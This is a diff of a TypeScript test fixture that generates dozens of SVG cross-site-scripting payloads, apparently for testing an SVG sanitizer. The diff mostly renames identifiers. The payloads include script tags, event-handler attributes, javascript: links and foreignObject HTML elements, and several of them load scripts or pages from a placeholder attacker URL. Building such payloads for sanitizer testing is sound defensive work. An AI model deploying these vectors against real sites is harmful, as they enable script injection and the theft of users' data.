@@ -1,12 +1,12 @@
-import { family, svg } from './drawing.ts';
+import { svg, svgGroup } from './svg.ts';
 
-/** Drawings that bring a script; each calls `hit()` and asks for `away` when it runs. */
-export function scriptDrawings(away: string) {
-  const run = `(self.hit||top.hit)(),new Image().src='${away}/ran'`;
+/** SVGs with a script that calls `hit()` and requests `attackerUrl`. */
+export function svgsWithScripts(attackerUrl: string) {
+  const run = `(self.hit||top.hit)(),new Image().src='${attackerUrl}/ran'`;
   const escaped = run.replaceAll("'", '&#39;');
   const data = `data:text/javascript,${encodeURIComponent(run)}`;
   return [
-    ...family('script', [
+    ...svgGroup('script', [
       svg(`<script>${run}</script>`),
       svg(`<script><![CDATA[${run}]]></script>`),
       svg(`<script type="application/ecmascript">${run}</script>`),
@@ -15,10 +15,10 @@ export function scriptDrawings(away: string) {
       svg(`<script>/*<!--*/${run}//--></script>`),
       svg(`<script xlink:href="${data}"/>`),
       svg(`<script href="${data}"/>`),
-      svg(`<script href="${away}/x.js"/>`),
-      svg(`<script xlink:href="${away}/x.js"/>`),
+      svg(`<script href="${attackerUrl}/x.js"/>`),
+      svg(`<script xlink:href="${attackerUrl}/x.js"/>`),
       svg(`<h:script>${run}</h:script>`),
-      svg(`<h:script src="${away}/x.js"/>`),
+      svg(`<h:script src="${attackerUrl}/x.js"/>`),
       svg(`<s:script xmlns:s="http://www.w3.org/2000/svg">${run}</s:script>`),
       svg(`<defs><script>${run}</script></defs>`),
       svg(`<switch><g><script>${run}</script></g></switch>`),
@@ -29,7 +29,7 @@ export function scriptDrawings(away: string) {
       svg(`<SCRIPT>${run}</SCRIPT>`),
       svg(`<script>\u2028${run}</script>`),
     ]),
-    ...family('handler', [
+    ...svgGroup('handler', [
       ...['onload', 'onLoad', 'onerror', 'onresize', 'onscroll', 'onfocusin', 'onunload'].map(
         (name) => svg('', { attributes: `width="40" height="2" ${name}="${escaped}"` }),
       ),
@@ -53,7 +53,7 @@ export function scriptDrawings(away: string) {
       svg(`<animate attributeName="onclick" values="${escaped}"/>`),
       svg(`<handler type="application/ecmascript" xmlns:ev="e" ev:event="load">${run}</handler>`),
     ]),
-    ...family('link', [
+    ...svgGroup('link', [
       svg(`<a href="javascript:${escaped}"><rect width="40" height="2"/></a>`),
       svg(`<a xlink:href="javascript:${escaped}"><rect width="40" height="2"/></a>`),
       svg(`<a href="java&#10;script:${escaped}"><rect width="40" height="2"/></a>`),
@@ -62,29 +62,29 @@ export function scriptDrawings(away: string) {
       svg(`<use href="data:image/svg+xml,&lt;svg onload=&quot;${escaped}&quot;/&gt;#x"/>`),
       svg(`<image href="data:image/svg+xml,&lt;svg onload=&quot;${escaped}&quot;/&gt;"/>`),
       svg(`<image href="data:text/html,&lt;script&gt;${escaped}&lt;/script&gt;"/>`),
-      svg(`<use><set attributeName="href" to="${away}/x.svg#x"/></use>`),
-      svg(`<image><animate attributeName="href" values="${away}/x.png" dur="1s"/></image>`),
+      svg(`<use><set attributeName="href" to="${attackerUrl}/x.svg#x"/></use>`),
+      svg(`<image><animate attributeName="href" values="${attackerUrl}/x.png" dur="1s"/></image>`),
     ]),
-    ...family(
+    ...svgGroup(
       'page inside',
       [
         `<h:iframe srcdoc="&lt;script&gt;parent.hit()&lt;/script&gt;"/>`,
         `<h:iframe src="javascript:parent.hit()"/>`,
-        `<h:iframe src="${away}/page"/>`,
+        `<h:iframe src="${attackerUrl}/page"/>`,
         `<h:img src="x" onerror="${escaped}"/>`,
-        `<h:img src="${away}/x.png"/>`,
-        `<h:object data="${away}/x.svg"/>`,
-        `<h:embed src="${away}/x.svg"/>`,
-        `<h:video poster="${away}/x.png"><h:source src="x" onerror="${escaped}"/></h:video>`,
+        `<h:img src="${attackerUrl}/x.png"/>`,
+        `<h:object data="${attackerUrl}/x.svg"/>`,
+        `<h:embed src="${attackerUrl}/x.svg"/>`,
+        `<h:video poster="${attackerUrl}/x.png"><h:source src="x" onerror="${escaped}"/></h:video>`,
         `<h:audio src="x" onerror="${escaped}"/>`,
         `<h:input autofocus="" onfocus="${escaped}"/>`,
         `<h:details open="" ontoggle="${escaped}"><h:summary>x</h:summary></h:details>`,
         `<h:body onload="${escaped}"/>`,
-        `<h:meta http-equiv="refresh" content="0;url=${away}/left"/>`,
-        `<h:link rel="stylesheet" href="${away}/x.css"/>`,
-        `<h:link rel="preload" as="image" href="${away}/x.png"/>`,
-        `<h:base href="${away}/"/><h:img src="x.png"/>`,
-        `<h:form action="${away}/form"><h:button autofocus="" onfocus="${escaped}">x</h:button></h:form>`,
+        `<h:meta http-equiv="refresh" content="0;url=${attackerUrl}/left"/>`,
+        `<h:link rel="stylesheet" href="${attackerUrl}/x.css"/>`,
+        `<h:link rel="preload" as="image" href="${attackerUrl}/x.png"/>`,
+        `<h:base href="${attackerUrl}/"/><h:img src="x.png"/>`,
+        `<h:form action="${attackerUrl}/form"><h:button autofocus="" onfocus="${escaped}">x</h:button></h:form>`,
       ].map((inside) =>
         svg(`<foreignObject width="40" height="2" requiredExtensions="">${inside}</foreignObject>`),
       ),
